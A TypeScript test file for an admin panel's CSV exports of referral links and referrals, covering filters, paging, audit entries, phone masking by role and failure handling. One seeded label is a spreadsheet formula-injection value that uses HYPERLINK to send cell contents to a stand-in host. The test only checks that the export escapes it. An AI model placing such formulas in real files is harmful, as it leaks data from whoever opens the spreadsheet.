import { env } from 'cloudflare:workers'
import { beforeAll, describe, expect, it } from 'vitest'
import { auditOf } from '../support/account.ts'
import { adminRequest, openPanel } from '../support/admin-request.ts'
import { insertRows, insertUsers } from '../support/referral-rows.ts'
import { createStaff } from '../support/staff.ts'
import type { TestStaff } from '../support/staff.ts'
import { createTestApp } from '../support/test-app.ts'

const test = createTestApp()
const PEOPLE = 4_500
const FORMULA = '=HYPERLINK("http://x.example?"&A1,"ok")'
let superuser: TestStaff
let ids: number[]

beforeAll(async () => {
  ids = await insertUsers(PEOPLE)
  superuser = await createStaff('superuser')
  const [first, ...others] = ids as [number, ...number[]]
  await insertRows(
    'referrals (invitee_id, inviter_id, link_key, method, certainty, created_at)',
    6,
    others.map((id, i) => [
      id,
      first,
      'BY11NK',
      i % 3 > 0 ? 'code' : i % 2 > 0 ? 'token' : 'pending_phone',
      i % 3 > 0 ? 'certain' : 'likely',
      1000,
    ]),
  )
  await insertRows(
    'referral_links (key, code, user_id, label, created_at, disabled_at)',
    6,
    others.map((id, i) => [
      `F11E${id}`,
      `file-${id}`,
      first,
      i === 5 ? FORMULA : 'Label, "quoted"',
      1000,
      i % 10 === 0 ? 5 : null,
    ]),
  )
})

const download = async (path: string) => {
  const response = await adminRequest(test, superuser)('GET', path)
  expect(response.status).toBe(200)
  return response
}

const decode = (bytes: ArrayBuffer) => new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)
/** First cells; none of our files has line breaks inside cells. */
const firstCells = (text: string) =>
  text
    .trimEnd()
    .split('\r\n')
    .map((line) => line.split(',')[0]!.replaceAll('"', ''))

describe('exports of links and referrals', () => {
  it('contain every referral once, newest first, over several pages', async () => {
    const response = await download('referrals.csv')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="referrals.csv"')
    const [heading, ...found] = firstCells(decode(await response.arrayBuffer()))
    expect(heading).toBe('\uFEFFinvitee_id')
    expect(found).toEqual(ids.slice(1).map(String).toReversed())
  })

  it('apply filters, also those without an index', async () => {
    const [, ...found] = firstCells(await (await download('referrals.csv?method=token&certainty=likely')).text())
    const expected = ids.slice(1).filter((_, i) => i % 6 === 3)
    expect(found).toEqual(expected.map(String).toReversed())
    const [, ...likely] = firstCells(await (await download('referrals.csv?certainty=likely&ordering=oldest')).text())
    expect(likely).toEqual(ids.slice(1).flatMap((id, i) => (i % 3 > 0 ? [] : [String(id)])))
    const links = firstCells(await (await download(`links.csv?state=disabled&owner=${ids[0]}`)).text()).slice(1)
    expect(links).toHaveLength(450)
    expect(firstCells(await (await download('links.csv')).text())).toHaveLength(PEOPLE)
    expect(firstCells(await (await download('links.csv?search=no-such-link')).text())).toHaveLength(1)
  })

  it('escape formulas, quote where needed, and show full phones', async () => {
    const text = await (await download('links.csv')).text()
    expect(text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`)
    expect(text).toContain('"Label, ""quoted"""')
    expect(text).toContain('"=""+79180010000"""')
  })

  it('are audited before they start, with their filters but not the search text', async () => {
    await (await download('links.csv?search=file-10007&channel=vk')).text()
    const event = (await auditOf()).findLast(({ action }) => action === 'list_exported')
    expect(event).toMatchObject({ actor: 'staff', actor_id: superuser.id })
    expect(JSON.parse(event!.details!)).toEqual({
      list: 'links',
      filter: { state: 'all', channel: 'vk', search: true },
    })
  })

  it('can be started from the pages, by all roles, and shows phones to superusers only', async () => {
    const panel = await openPanel(test, 'superuser')
    const page = await (await panel.get('/admin/links/?state=disabled')).text()
    expect(page).toContain('name="filter" value="?state=disabled"')
    const file = await panel.post('/admin/links/export/', { filter: '?state=disabled' })
    expect(file.headers.get('content-type')).toContain('text/csv')
    expect(firstCells(await file.text())).toHaveLength(451)
    const referrals = await panel.post('/admin/referrals/export/', { filter: '?certainty=likely&limit=1' })
    expect(firstCells(await referrals.text())).toHaveLength(1 + Math.ceil((PEOPLE - 1) / 3))
    expect((await panel.post('/admin/referrals/export/', { filter: '?method=guess' })).status).toBe(400)
    for (const role of ['support', 'analyst'] as const) {
      const other = await openPanel(test, role)
      expect(await (await other.get('/admin/links/')).text()).toContain('/export/')
      for (const list of ['links', 'referrals', 'leaderboard']) {
        const shown = await other.post(`/admin/${list}/export/`, { for: 'program' })
        expect(shown.status).toBe(200)
        expect(await shown.text()).not.toMatch(/\+7\d{10}/)
        const inFull = await (await panel.post(`/admin/${list}/export/`, { for: 'program' })).text()
        expect(inFull).toMatch(/\+7\d{10}/)
      }
      for (const list of ['audit', 'codes', 'jobs'])
        expect((await other.post(`/admin/${list}/export/`, {})).status).toBe(403)
    }
  })

  it('break off when the database fails and never look complete', async () => {
    const file = (await download('referrals.csv')).body!.getReader()
    // A page is sent in twelve pieces.
    for (let i = 0; i < 12; i += 1) await file.read()
    await env.DB.prepare('ALTER TABLE referrals RENAME TO referrals_away').run()
    try {
      await expect(file.read()).rejects.toThrow('storage_unavailable')
    } finally {
      await env.DB.prepare('ALTER TABLE referrals_away RENAME TO referrals').run()
    }
  })
})
